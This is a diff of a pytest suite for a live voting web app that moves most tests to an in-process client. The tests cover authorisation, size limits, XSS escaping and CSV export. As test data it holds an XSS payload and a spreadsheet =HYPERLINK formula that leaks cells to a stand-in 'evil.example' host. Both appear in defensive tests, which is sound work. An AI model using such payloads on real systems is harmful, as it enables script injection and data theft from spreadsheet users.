@@ -1,4 +1,5 @@
-"""The HTTP API, the pages and bad input, on a real server."""
+"""The HTTP API, the pages and bad input: in this process (``app``, tests.inprocess), and
+on a real server where uvicorn, the process or a fault is the point."""
 
 from __future__ import annotations
 
@@ -13,12 +14,12 @@ from typing import Any
 
 import httpx
 import pytest
-from websockets.asyncio.client import connect
-from websockets.exceptions import InvalidStatus
+from starlette.testclient import WebSocketDenialResponse
 
 from battles.app import SECURITY_HEADERS
 from battles.views import spreadsheet_safe
 from tests.clients import Client
+from tests.inprocess import InProcess
 from tests.servers import Server
 
 MARKUP = "<img src=x onerror=alert(1)>"
@@ -29,20 +30,20 @@ BATTLERS = [
 ]
 
 
-def test_healthz_says_the_store_is_reachable(server: Server) -> None:
-    response = httpx.get(f"{server.url}/healthz")
+def test_healthz_says_the_store_is_reachable(app: InProcess) -> None:
+    response = app.get("/healthz")
     assert response.status_code == 200
     assert response.json()["ok"] is True and response.json()["store"] == "reachable"
 
 
-def test_creating_a_battle_answers_with_its_code_and_links(server: Server) -> None:
-    created = server.create_battle(title="T", battlers=BATTLERS, language="da", rules={"vote_mode": "out"})
+def test_creating_a_battle_answers_with_its_code_and_links(app: InProcess) -> None:
+    created = app.create_battle(title="T", battlers=BATTLERS, language="da", rules={"vote_mode": "out"})
     code = created["code"]
     assert len(code) == 6 and code.isalnum()
-    assert created["links"]["join"] == f"{server.url}/join/{code}"
-    assert created["links"]["host"].startswith(f"{server.url}/host/{code}#")
+    assert created["links"]["join"] == f"{app.url}/join/{code}"
+    assert created["links"]["host"].startswith(f"{app.url}/host/{code}#")
     assert len(created["host_token"]) >= 40 and created["host_token"] != created["screen_token"]
-    public = httpx.get(f"{server.url}/api/battles/{code}").json()
+    public = app.get(f"/api/battles/{code}").json()
     assert public["language"] == "da" and public["rules"]["vote_mode"] == "out"
     assert "log" not in public
 
@@ -57,64 +58,62 @@ def test_creating_a_battle_answers_with_its_code_and_links(server: Server) -> No
         ({"title": "T", "admin": True}, "admin"),
     ],
 )
-def test_a_bad_battle_is_refused_with_the_reason(server: Server, draft: dict[str, object], problem: str) -> None:
-    response = httpx.post(f"{server.url}/api/battles", json=draft)
+def test_a_bad_battle_is_refused_with_the_reason(app: InProcess, draft: dict[str, object], problem: str) -> None:
+    response = app.post("/api/battles", json=draft)
     assert response.status_code == 422
     assert problem in json.dumps(response.json()["details"])
 
 
-def test_an_oversized_request_body_is_refused(server: Server) -> None:
-    response = httpx.post(f"{server.url}/api/battles", content=b"{" + b" " * 70_000 + b"}")
+def test_an_oversized_request_body_is_refused(app: InProcess) -> None:
+    response = app.post("/api/battles", content=b"{" + b" " * 70_000 + b"}")
     assert response.status_code == 413
 
 
-def test_the_export_needs_the_host_token_or_the_results_token(server: Server) -> None:
-    created = server.create_battle(title="T", battlers=BATTLERS)
-    url = f"{server.url}/api/battles/{created['code']}/export.json"
+def test_the_export_needs_the_host_token_or_the_results_token(app: InProcess) -> None:
+    created = app.create_battle(title="T", battlers=BATTLERS)
+    url = f"/api/battles/{created['code']}/export.json"
     results_token = created["links"]["results"].split("#", 1)[1]
-    assert httpx.get(url).status_code == 401
+    assert app.get(url).status_code == 401
     for token in (created["screen_token"], created["cohost_token"], "wrong"):
-        assert httpx.get(url, headers={"authorization": f"Bearer {token}"}).status_code == 401
+        assert app.get(url, headers={"authorization": f"Bearer {token}"}).status_code == 401
     for token in (created["host_token"], results_token):
-        assert httpx.get(url, headers={"authorization": f"Bearer {token}"}).status_code == 200
-    assert httpx.get(f"{server.url}/api/battles/NOPE22/export.json").status_code == 404
+        assert app.get(url, headers={"authorization": f"Bearer {token}"}).status_code == 200
+    assert app.get("/api/battles/NOPE22/export.json").status_code == 404
 
 
-async def test_the_results_link_does_not_carry_the_host_token_nor_open_the_console(server: Server) -> None:
-    created = server.create_battle(title="T", battlers=BATTLERS)
+def test_the_results_link_does_not_carry_the_host_token_nor_open_the_console(app: InProcess) -> None:
+    created = app.create_battle(title="T", battlers=BATTLERS)
     results_token = created["links"]["results"].split("#", 1)[1]
-    assert created["links"]["results"] == f"{server.url}/results/{created['code']}#{results_token}"
+    assert created["links"]["results"] == f"{app.url}/results/{created['code']}#{results_token}"
     assert len(results_token) >= 43  # 256 bits
     assert results_token not in (created["host_token"], created["cohost_token"], created["screen_token"])
     for role in ("host", "cohost", "screen"):
-        with pytest.raises(InvalidStatus) as refused:
-            await Client.connect(server.ws_url, role, created["code"], results_token)
-        assert refused.value.response.status_code == 401
+        with pytest.raises(WebSocketDenialResponse) as refused:
+            app.open(role, created["code"], results_token)
+        assert refused.value.status_code == 401
     # A battle's results token reads only that battle's export.
-    other = server.create_battle(title="Other", battlers=BATTLERS)
-    response = httpx.get(
-        f"{server.url}/api/battles/{other['code']}/export.json", headers={"authorization": f"Bearer {results_token}"}
-    )
+    other = app.create_battle(title="Other", battlers=BATTLERS)
+    response = app.get(f"/api/battles/{other['code']}/export.json", headers={"authorization": f"Bearer {results_token}"})
     assert response.status_code == 401
 
 
-def test_markup_in_names_comes_back_as_text_on_every_page(server: Server) -> None:
-    created = server.create_battle(title=f"Title {MARKUP}", battlers=BATTLERS)
+def test_markup_in_names_comes_back_as_text_on_every_page(app: InProcess) -> None:
+    created = app.create_battle(title=f"Title {MARKUP}", battlers=BATTLERS)
     for page in ("join", "screen", "host", "results"):
-        response = httpx.get(f"{server.url}/{page}/{created['code']}")
+        response = app.get(f"/{page}/{created['code']}")
         assert response.status_code == 200
         assert MARKUP not in response.text
         assert "&lt;img src=x onerror=alert(1)&gt;" in response.text
         assert "script-src 'self'" in response.headers["content-security-policy"]
         assert response.headers["x-content-type-options"] == "nosniff"
     # The API is data: it returns the name exactly as typed, for pages to show as text.
-    public = httpx.get(f"{server.url}/api/battles/{created['code']}").json()
+    public = app.get(f"/api/battles/{created['code']}").json()
     assert public["battlers"][0]["name"] == MARKUP
 
 
-def test_the_qr_code_encodes_the_join_link(server: Server) -> None:
-    created = server.create_battle(title="T", battlers=BATTLERS)
-    response = httpx.get(f"{server.url}/qr/{created['code']}.svg")
+def test_the_qr_code_encodes_the_join_link(app: InProcess) -> None:
+    created = app.create_battle(title="T", battlers=BATTLERS)
+    response = app.get(f"/qr/{created['code']}.svg")
     assert response.status_code == 200 and response.headers["content-type"].startswith("image/svg+xml")
     assert response.text.lstrip().startswith("<svg")
 
@@ -157,11 +156,11 @@ def test_only_a_battle_gets_a_qr_code_drawn_once_and_every_miss_counts(tmp_path:
     assert "Traceback" not in log and "DataOverflow" not in log, log[-3000:]
 
 
-async def test_bad_messages_get_a_clear_error_and_the_socket_stays_usable(server: Server) -> None:
-    created = server.create_battle(title="T", battlers=BATTLERS)
+async def test_bad_messages_get_a_clear_error_and_the_socket_stays_usable(app: InProcess) -> None:
+    created = app.create_battle(title="T", battlers=BATTLERS)
     code = created["code"]
-    host = await Client.connect(server.ws_url, "host", code, created["host_token"])
-    phone = await Client.connect(server.ws_url, "audience", code)
+    host = await app.connect("host", code, created["host_token"])
+    phone = await app.connect("audience", code)
 
     await phone.socket.send("{not json")
     assert (await phone.expect("error"))["reason"] == "bad_json"
@@ -190,10 +189,10 @@ async def test_bad_messages_get_a_clear_error_and_the_socket_stays_usable(server
     assert (await phone.request({"type": "ping", "t": 1.5}))["type"] == "pong"
 
 
-async def test_a_vote_for_an_eliminated_battler_is_refused(server: Server) -> None:
-    created = server.create_battle(title="T", battlers=BATTLERS)
-    host = await Client.connect(server.ws_url, "host", created["code"], created["host_token"])
-    phone = await Client.connect(server.ws_url, "audience", created["code"])
+async def test_a_vote_for_an_eliminated_battler_is_refused(app: InProcess) -> None:
+    created = app.create_battle(title="T", battlers=BATTLERS)
+    host = await app.connect("host", created["code"], created["host_token"])
+    phone = await app.connect("audience", created["code"])
     await _open_vote(host)
     await host.run("close_vote")
     await host.run("reveal_results")
@@ -211,19 +210,14 @@ async def test_an_oversized_frame_closes_the_socket_with_1009(server: Server) ->
     assert phone.socket.close_code == 1009
 
 
-async def test_wrong_tokens_and_unknown_battles_are_refused_at_the_handshake(server: Server) -> None:
-    created = server.create_battle(title="T", battlers=BATTLERS)
+def test_wrong_tokens_and_unknown_battles_are_refused_at_the_handshake(app: InProcess) -> None:
+    created = app.create_battle(title="T", battlers=BATTLERS)
     code = created["code"]
-    for role, offer in [
-        ("host", ["battles.v1"]),
-        ("host", ["battles.v1", f"auth.{created['screen_token']}"]),
-        ("screen", ["battles.v1", "auth.guess"]),
-        ("admin", ["battles.v1"]),
-    ]:
-        with pytest.raises(InvalidStatus):
-            await connect(f"{server.ws_url}/ws/{role}/{code}", subprotocols=offer)  # type: ignore[list-item]
-    with pytest.raises(InvalidStatus):
-        await connect(f"{server.ws_url}/ws/audience/NOPE22")
+    for role, token in [("host", None), ("host", created["screen_token"]), ("screen", "guess"), ("admin", None)]:
+        with pytest.raises(WebSocketDenialResponse):
+            app.open(role, code, token)
+    with pytest.raises(WebSocketDenialResponse):
+        app.open("audience", "NOPE22")
 
 
 async def _open_vote(host: Client) -> str:
@@ -235,29 +229,29 @@ async def _open_vote(host: Client) -> str:
     return str(host.battle["rounds"][-1]["votes"][-1]["id"])
 
 
-def test_static_files_are_kept_under_their_versioned_address_and_checked_under_the_plain_one(server: Server) -> None:
-    page = httpx.get(f"{server.url}/").text
+def test_static_files_are_kept_under_their_versioned_address_and_checked_under_the_plain_one(app: InProcess) -> None:
+    page = app.get("/").text
     match = re.search(r'href="(/static/[0-9a-f]{12}/)battles\.css"', page)
     assert match, "the page links its stylesheet under a versioned address"
     # A module in a folder of static/ (the pages' shared modules in static/client/) too.
-    kept = httpx.get(f"{server.url}{match[1]}client/live.js")
+    kept = app.get(f"{match[1]}client/live.js")
     assert kept.status_code == 200 and kept.headers["cache-control"] == "public, max-age=31536000, immutable"
-    plain = httpx.get(f"{server.url}/static/client/live.js")
+    plain = app.get("/static/client/live.js")
     assert plain.text == kept.text and plain.headers["cache-control"] == "no-cache"
-    again = httpx.get(f"{server.url}/static/client/live.js", headers={"if-none-match": plain.headers["etag"]})
+    again = app.get("/static/client/live.js", headers={"if-none-match": plain.headers["etag"]})
     assert again.status_code == 304 and again.headers["cache-control"] == "no-cache"
-    assert httpx.get(f"{server.url}/static/000000000000/client/live.js").status_code == 404
+    assert app.get("/static/000000000000/client/live.js").status_code == 404
 
 
-def test_the_catalogs_are_a_file_the_browser_keeps(server: Server) -> None:
-    page = httpx.get(f"{server.url}/new").text
+def test_the_catalogs_are_a_file_the_browser_keeps(app: InProcess) -> None:
+    page = app.get("/new").text
     match = re.search(r'<link rel="preload" id="catalogs" href="(/i18n/[0-9a-f]{12}\.json)"', page)
     assert match, "the page preloads the catalogs file"
     assert "application/json" not in page, "no catalog inline in the page"
-    catalogs = httpx.get(f"{server.url}{match[1]}")
+    catalogs = app.get(match[1])
     assert catalogs.headers["cache-control"] == "public, max-age=31536000, immutable"
     assert catalogs.json()["da"]["Next step"] == "Næste skridt"
-    assert httpx.get(f"{server.url}/i18n/000000000000.json").status_code == 404
+    assert app.get("/i18n/000000000000.json").status_code == 404
 
 
 @pytest.mark.parametrize(
@@ -269,8 +263,8 @@ def test_the_catalogs_are_a_file_the_browser_keeps(server: Server) -> None:
         ({"live_totals": 1}, "live_totals"),
     ],
 )
-def test_a_battle_with_a_number_or_a_yes_in_words_is_refused(server: Server, rules: dict[str, object], problem: str) -> None:
-    response = httpx.post(f"{server.url}/api/battles", json={"title": "T", "battlers": BATTLERS, "rules": rules})
+def test_a_battle_with_a_number_or_a_yes_in_words_is_refused(app: InProcess, rules: dict[str, object], problem: str) -> None:
+    response = app.post("/api/battles", json={"title": "T", "battlers": BATTLERS, "rules": rules})
     assert response.status_code == 422, response.text
     assert problem in json.dumps(response.json()["details"])
 
@@ -307,11 +301,11 @@ async def test_a_lone_surrogate_is_a_bad_message_and_the_socket_lives_on(tmp_pat
     assert "Traceback" not in log and "Exception in ASGI" not in log, log[-3000:]
 
 
-async def test_binary_frames_and_loose_types_are_refused_on_the_socket(server: Server) -> None:
+async def test_binary_frames_and_loose_types_are_refused_on_the_socket(app: InProcess) -> None:
     """docs/protocol.md: text frames of JSON, every field of its own type."""
-    created = server.create_battle(title="T", battlers=BATTLERS)
-    host = await Client.connect(server.ws_url, "host", created["code"], created["host_token"])
-    phone = await Client.connect(server.ws_url, "audience", created["code"])
+    created = app.create_battle(title="T", battlers=BATTLERS)
+    host = await app.connect("host", created["code"], created["host_token"])
+    phone = await app.connect("audience", created["code"])
     await phone.socket.send(json.dumps({"type": "ping", "t": 1, "id": "b1"}).encode())
     assert (await phone.expect("error"))["reason"] == "binary_frame"
     await host.socket.send(json.dumps({"type": "resync", "id": "b2"}).encode())
@@ -341,24 +335,24 @@ async def test_binary_frames_and_loose_types_are_refused_on_the_socket(server: S
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+2", "-2+3", "@SUM(1)"]
 
 
-async def test_formulas_in_names_are_quoted_in_the_csv_and_exact_in_the_json(server: Server) -> None:
+async def test_formulas_in_names_are_quoted_in_the_csv_and_exact_in_the_json(app: InProcess) -> None:
     """A battler named =HYPERLINK(...), or =2+2 added by a co-host, came out raw in
     export.csv, where a spreadsheet runs it (OWASP, CSV injection)."""
     battlers = [{"name": name, "vision": "A vision"} for name in FORMULAS[:3]]
-    created = server.create_battle(title="=1+1", battlers=battlers, topic="@topic")
-    cohost = await Client.connect(server.ws_url, "cohost", created["code"], created["cohost_token"])
+    created = app.create_battle(title="=1+1", battlers=battlers, topic="@topic")
+    cohost = await app.connect("cohost", created["code"], created["cohost_token"])
     await cohost.run("add_battler", name=FORMULAS[3], vision="=2+2")
     await cohost.close()
     auth = {"authorization": f"Bearer {created['host_token']}"}
-    base = f"{server.url}/api/battles/{created['code']}/export"
-    table = list(csv.DictReader(io.StringIO(httpx.get(f"{base}.csv", headers=auth).text)))
+    base = f"/api/battles/{created['code']}/export"
+    table = list(csv.DictReader(io.StringIO(app.get(f"{base}.csv", headers=auth).text)))
     names = {row["name"] for row in table if row["section"] == "battler"}
     assert names == {"'" + name for name in FORMULAS}, names
     cells = [cell for row in table for cell in row.values()]
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
     assert {"'=1+1", "'@topic", "'=2+2"} <= set(cells)
     # JSON is data, not a spreadsheet: exactly as typed.
-    exported = httpx.get(f"{base}.json", headers=auth).json()["battle"]
+    exported = app.get(f"{base}.json", headers=auth).json()["battle"]
     assert [b["name"] for b in exported["battlers"]] == FORMULAS
     assert (exported["title"], exported["topic"], exported["battlers"][3]["vision"]) == ("=1+1", "@topic", "=2+2")
 
